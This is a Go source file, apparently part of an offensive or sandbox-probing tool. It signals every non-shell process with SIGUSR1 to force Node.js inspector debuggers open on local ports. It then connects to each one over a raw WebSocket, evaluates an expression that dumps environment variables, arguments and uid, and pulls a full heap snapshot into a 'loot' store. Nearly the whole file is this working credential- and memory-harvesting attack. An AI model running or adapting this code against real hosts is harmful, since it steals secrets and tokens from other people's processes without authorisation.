package main

import (
	"bufio"
	"crypto/rand"
	"encoding/base64"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"strings"
	"syscall"
	"time"
)

const (
	firstPort = 9229
	lastPort  = 9239
)

// debugger asks every process for Node.js' inspector, and everything that listens for what it has in memory.
func debugger(l *loot) {
	before := map[int]bool{}
	for port := firstPort; port <= lastPort; port++ {
		before[port] = listens(port)
	}
	for _, pid := range processes() {
		name := describe(pid)
		// A shell dies of it, and with the job's own this program's parent.
		if strings.Contains(name, "bash") || strings.Contains(name, "(sh ") || strings.Contains(name, "/hostile") {
			continue
		}
		l.count("SIGUSR1")
		l.save("part")
		_ = syscall.Kill(pid, syscall.SIGUSR1)
		time.Sleep(300 * time.Millisecond)
		for port := firstPort; port <= lastPort; port++ {
			l.count("ports")
			// What was there before is another program's of this host, whose network the container may share.
			if before[port] || !listens(port) {
				continue
			}
			l.opened(fmt.Sprintf("debugger on port %d by SIGUSR1 to %s", port, name))
			inspect(l, port, name)
			before[port] = true
		}
	}
}

func listens(port int) bool {
	connection, err := net.DialTimeout("tcp", fmt.Sprintf("127.0.0.1:%d", port), 200*time.Millisecond)
	if err != nil {
		return false
	}
	_ = connection.Close()
	return true
}

func inspect(l *loot, port int, name string) {
	client := http.Client{Timeout: 3 * time.Second}
	response, err := client.Get(fmt.Sprintf("http://127.0.0.1:%d/json", port))
	if err != nil {
		return
	}
	defer response.Body.Close()
	text, _ := io.ReadAll(io.LimitReader(response.Body, chunk))
	l.keep("debugger's list", text)
	var targets []struct {
		URL string `json:"webSocketDebuggerUrl"`
	}
	if json.Unmarshal(text, &targets) != nil {
		return
	}
	for _, target := range targets {
		evaluate(l, target.URL, name)
	}
}

const expression = `JSON.stringify([process.env, process.argv, process.memoryUsage(), process.getuid()])`

// evaluate speaks the inspector's protocol over a WebSocket of its own: an expression, then a snapshot of the heap.
func evaluate(l *loot, address, name string) {
	target, err := url.Parse(address)
	if err != nil {
		return
	}
	connection, err := net.DialTimeout("tcp", target.Host, time.Second)
	if err != nil {
		return
	}
	defer connection.Close()
	_ = connection.SetDeadline(time.Now().Add(40 * time.Second))
	key := make([]byte, 16)
	_, _ = rand.Read(key)
	fmt.Fprintf(connection, "GET %s HTTP/1.1\r\nHost: %s\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: %s\r\n\r\n", target.Path, target.Host, base64.StdEncoding.EncodeToString(key))
	reader := bufio.NewReaderSize(connection, chunk)
	for {
		line, err := reader.ReadString('\n')
		if err != nil {
			return
		}
		if strings.TrimSpace(line) == "" {
			break
		}
	}
	ask := func(text string) {
		frame := []byte{0x81, 0x80 | 126}
		frame = binary.BigEndian.AppendUint16(frame, uint16(len(text)))
		frame = append(frame, 0, 0, 0, 0)
		_, _ = connection.Write(append(frame, text...))
	}
	quoted, _ := json.Marshal(expression)
	ask(fmt.Sprintf(`{"id":1,"method":"Runtime.evaluate","params":{"returnByValue":true,"expression":%s}}`, quoted))
	ask(`{"id":2,"method":"HeapProfiler.takeHeapSnapshot","params":{"reportProgress":false}}`)
	for {
		message := frame(reader)
		if message == nil {
			return
		}
		l.count("messages of a debugger")
		l.keep("debugger of "+name, message)
		if strings.HasPrefix(string(message), `{"id":2,`) {
			return
		}
	}
}

func frame(reader io.Reader) []byte {
	head := make([]byte, 2)
	if _, err := io.ReadFull(reader, head); err != nil {
		return nil
	}
	size := uint64(head[1] & 0x7f)
	var long [8]byte
	switch size {
	case 126:
		if _, err := io.ReadFull(reader, long[:2]); err != nil {
			return nil
		}
		size = uint64(binary.BigEndian.Uint16(long[:2]))
	case 127:
		if _, err := io.ReadFull(reader, long[:]); err != nil {
			return nil
		}
		size = binary.BigEndian.Uint64(long[:])
	}
	if size > most {
		return nil
	}
	message := make([]byte, size)
	if _, err := io.ReadFull(reader, message); err != nil {
		return nil
	}
	return message
}
